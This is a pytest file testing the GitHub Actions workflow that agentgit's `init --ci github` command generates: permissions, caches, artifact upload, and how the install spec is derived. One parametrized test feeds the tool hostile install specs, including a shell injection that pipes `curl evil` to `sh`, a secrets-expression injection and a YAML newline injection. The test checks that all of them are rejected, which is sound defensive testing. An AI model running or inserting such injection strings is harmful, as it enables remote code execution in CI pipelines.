"""`agentgit init --ci github`: the workflow it writes (DESIGN §5)."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from conftest import agentgit, git

from agentgit import __version__
from agentgit.corpus.workflow import WORKFLOW_PATH, Install, install_from, render_workflow


def run_lines(text: str) -> list[str]:
    """Every line of shell the workflow runs: `run: x` and the body of `run: |` blocks."""
    lines = text.splitlines()
    out: list[str] = []
    i = 0
    while i < len(lines):
        match = re.match(r"^(\s*)(?:- )?run:\s*(.*)$", lines[i])
        if match:
            indent, rest = len(match.group(1)), match.group(2)
            if rest.strip() in ("|", ">", "|-", ">-"):
                i += 1
                while i < len(lines) and (
                    not lines[i].strip() or len(lines[i]) - len(lines[i].lstrip()) > indent
                ):
                    out.append(lines[i])
                    i += 1
                continue
            out.append(rest)
        i += 1
    return out


def test_init_ci_writes_a_valid_least_privilege_workflow(tmp_path: Path) -> None:
    repo = tmp_path / "corpus"
    proc = agentgit(tmp_path, "init", str(repo), "--ci", "github")
    assert proc.returncode == 0, proc.stderr
    workflow = repo / WORKFLOW_PATH
    text = workflow.read_text("utf-8")
    # Committed with the skeleton.
    assert WORKFLOW_PATH in git(repo, "ls-tree", "-r", "--name-only", "main")
    checked = subprocess.run(
        [
            str(Path(sys.executable).parent / "check-jsonschema"),
            "--builtin-schema",
            "vendor.github-workflows",
            str(workflow),
        ],
        capture_output=True,
        text=True,
    )
    assert checked.returncode == 0, checked.stdout + checked.stderr

    assert "schedule:" in text and "workflow_dispatch:" in text
    assert re.search(r"cron: \"[^\"]+ \* \* \*\"", text)  # daily
    assert "cancel-in-progress: false" in text
    permissions = text.split("permissions:\n", 1)[1].split("\n\n", 1)[0]
    assert sorted(line.strip() for line in permissions.splitlines()) == [
        "contents: write",
        "pull-requests: write",
    ]
    assert re.search(r"timeout-minutes: \d+", text)
    assert "fetch-depth: 0" in text
    assert 'python-version: "3.11"' in text
    # This test venv has agentgit as an editable checkout, which no runner can reach: the
    # workflow falls back to the index version, and init says to pass --install.
    assert install_step(text) == f"python -m pip install 'agentgit=={__version__}'"
    assert proc.stderr.splitlines() == [
        f"warning: The workflow installs agentgit=={__version__} from the package index, but "
        "this agentgit came from an editable checkout (file://"
        f"{Path(__file__).resolve().parents[2]}), which a runner cannot reach: pass "
        "--install SPEC (a pip argument, e.g. git+https://github.com/OWNER/agentgit@COMMIT)"
    ]
    assert "git config user.name" in text and "git config user.email" in text
    assert "ANTHROPIC_API_KEY: ${{ secrets.ANTHROPIC_API_KEY }}" in text
    assert "GITHUB_TOKEN: ${{ github.token }}" in text
    assert 'agentgit session --review "$REVIEW" --topic "$TOPIC"' in text
    assert 'agentgit resume "$RESUME"' in text and "RESUME: ${{ inputs.resume }}" in text
    # Yesterday's review decisions are recorded before today's session reads the log.
    assert 0 < text.index("run: agentgit sync") < text.index("agentgit session --review")
    # No expression at all inside a run: line; event text only through env:.
    shell = run_lines(text)
    assert any("agentgit session" in line for line in shell)
    for line in shell:
        assert "${{" not in line, line


def test_the_workflow_uploads_the_map_and_links_it_from_the_summary() -> None:
    text = render_workflow()
    steps = yaml.safe_load(text)["jobs"]["session"]["steps"]
    names = [s.get("name") for s in steps]
    assert names[-4:] == ["Session", "Map", "Upload the map", "Link the map"]
    drawn, upload, link = steps[-3:]
    # Drawn and kept whatever the session did (failed, interrupted), unless cancelled.
    assert all("!cancelled()" in s["if"] for s in (drawn, upload, link))
    assert drawn["run"] == 'agentgit map -o "$RUNNER_TEMP/agentgit-map.html"'
    assert upload["uses"] == "actions/upload-artifact@v4"
    assert upload["with"] == {
        "name": "agentgit-map",
        "path": "${{ runner.temp }}/agentgit-map.html",
        "if-no-files-found": "ignore",
    }
    # The link is the upload's own output, reaching the shell through env: only.
    assert link["env"] == {"MAP_URL": f"${{{{ steps.{upload['id']}.outputs.artifact-url }}}}"}
    assert "artifact-url != ''" in link["if"]
    assert "($MAP_URL)" in link["run"] and '>> "$GITHUB_STEP_SUMMARY"' in link["run"]


def test_the_workflow_restores_the_caches_a_session_derives_from_git() -> None:
    steps = yaml.safe_load(render_workflow())["jobs"]["session"]["steps"]
    names = [s.get("name") for s in steps]
    cache = steps[names.index("Restore agentgit's caches")]
    assert names.index("Restore agentgit's caches") < names.index("Session")
    assert cache["uses"] == "actions/cache@v4"
    # Where agentgit keeps them in a clone (its state directory is .git/agentgit).
    from agentgit.corpus.history import LOG_CACHE
    from agentgit.corpus.index import index_path
    from agentgit.landscape import regions

    state = Path(".git/agentgit")
    assert cache["with"]["path"].split() == [
        index_path(state).parent.as_posix(),
        (state / "questions").as_posix(),
        (state / LOG_CACHE).as_posix(),
        regions.cache_path(state).parent.as_posix(),
    ]
    # A new entry each run, restored from the newest: the caches only grow.
    assert cache["with"]["key"] == "agentgit-caches-${{ github.run_id }}"
    assert cache["with"]["restore-keys"] == "agentgit-caches-"


def test_init_ci_never_overwrites_an_existing_workflow(tmp_path: Path) -> None:
    repo = tmp_path / "corpus"
    mine = repo / WORKFLOW_PATH
    mine.parent.mkdir(parents=True)
    mine.write_text("name: mine\n", "utf-8")
    proc = agentgit(tmp_path, "init", str(repo), "--ci", "github")
    assert proc.returncode == 0, proc.stderr
    assert mine.read_text("utf-8") == "name: mine\n"
    assert "not overwritten" in proc.stdout
    again = agentgit(repo, "init", "--ci", "github")
    assert again.returncode == 0 and mine.read_text("utf-8") == "name: mine\n"


def test_the_rendered_run_lines_hold_no_event_text() -> None:
    text = render_workflow()
    for line in run_lines(text):
        assert "${{ github.event" not in line and "${{ inputs" not in line


def install_step(text: str) -> str:
    steps = yaml.safe_load(text)["jobs"]["session"]["steps"]
    (step,) = [s for s in steps if s.get("name") == "Install agentgit"]
    return step["run"].strip()


SHA = "0123456789abcdef0123456789abcdef01234567"


def test_init_ci_writes_the_install_spec_it_is_given_verbatim(tmp_path: Path) -> None:
    spec = f"git+https://git.example.invalid/me/agentgit.git@{SHA}#subdirectory=py"
    proc = agentgit(tmp_path, "init", "corpus", "--ci", "github", "--install", spec)
    assert proc.returncode == 0 and proc.stderr == "", proc.stderr
    text = (tmp_path / "corpus" / WORKFLOW_PATH).read_text("utf-8")
    assert install_step(text) == f"python -m pip install '{spec}'"
    assert git(tmp_path / "corpus", "show", f"main:{WORKFLOW_PATH}") == text


@pytest.mark.parametrize(
    "args",
    [
        ["--ci", "github", "--install", ""],
        ["--ci", "github", "--install", "agentgit'; curl evil | sh; '"],
        ["--ci", "github", "--install", "${{ secrets.ANTHROPIC_API_KEY }}"],
        ["--ci", "github", "--install", "agentgit\nrun: evil"],
        ["--install", "agentgit==0.1.0"],  # without --ci it has nowhere to go
    ],
)
def test_a_bad_install_spec_is_usage_and_writes_nothing(tmp_path: Path, args: list[str]) -> None:
    proc = agentgit(tmp_path, "init", "corpus", *args)
    assert proc.returncode == 2, proc.stderr
    assert len(proc.stderr.splitlines()) == 1 and "--install" in proc.stderr
    assert not (tmp_path / "corpus").exists()


def _direct_url(**data: object) -> str:
    return json.dumps(data)


@pytest.mark.parametrize(
    "direct_url, spec, says",
    [
        # PEP 610's own shapes: a VCS install, one from a subdirectory, an archive by URL.
        (
            _direct_url(
                url="https://github.com/me/agentgit.git",
                vcs_info={"vcs": "git", "commit_id": SHA, "requested_revision": "main"},
            ),
            f"git+https://github.com/me/agentgit.git@{SHA}",
            False,
        ),
        (
            _direct_url(
                url="ssh://git@github.com/me/mono.git",
                subdirectory="agentgit",
                vcs_info={"vcs": "git", "commit_id": SHA},
            ),
            f"git+ssh://git@github.com/me/mono.git@{SHA}#subdirectory=agentgit",
            False,
        ),
        (
            _direct_url(
                url="https://example.invalid/agentgit-0.1.0-py3-none-any.whl",
                archive_info={"hashes": {"sha256": "00"}},
            ),
            "agentgit @ https://example.invalid/agentgit-0.1.0-py3-none-any.whl",
            False,
        ),
        # What no runner can reach: the index version, and a line saying so.
        (
            _direct_url(url="file:///home/me/agentgit", dir_info={"editable": True}),
            f"agentgit=={__version__}",
            True,
        ),
        (
            _direct_url(url="file:///home/me/agentgit", dir_info={}),
            f"agentgit=={__version__}",
            True,
        ),
        (
            _direct_url(url="file:///tmp/agentgit-0.1.0-py3-none-any.whl", archive_info={}),
            f"agentgit=={__version__}",
            True,
        ),
        (
            _direct_url(url="file:///home/me/agentgit", vcs_info={"vcs": "git", "commit_id": SHA}),
            f"agentgit=={__version__}",
            True,
        ),
        ("{not json", f"agentgit=={__version__}", True),
        (
            _direct_url(
                url="https://me:s3cret@git.example.invalid/agentgit.git",
                vcs_info={"vcs": "git", "commit_id": SHA},
            ),
            f"agentgit=={__version__}",
            True,
        ),
        # Installed from an index: that index has it.
        (None, f"agentgit=={__version__}", False),
    ],
)
def test_the_default_install_follows_how_this_copy_was_installed(
    direct_url: str | None, spec: str, says: bool
) -> None:
    found = install_from(direct_url)
    assert found.spec == spec
    assert (found.note is not None) == says
    if says:
        assert "--install" in (found.note or "") and "\n" not in (found.note or "")
    assert install_step(render_workflow(install=found.spec)) == (f"python -m pip install '{spec}'")
    assert Install(spec).note is None
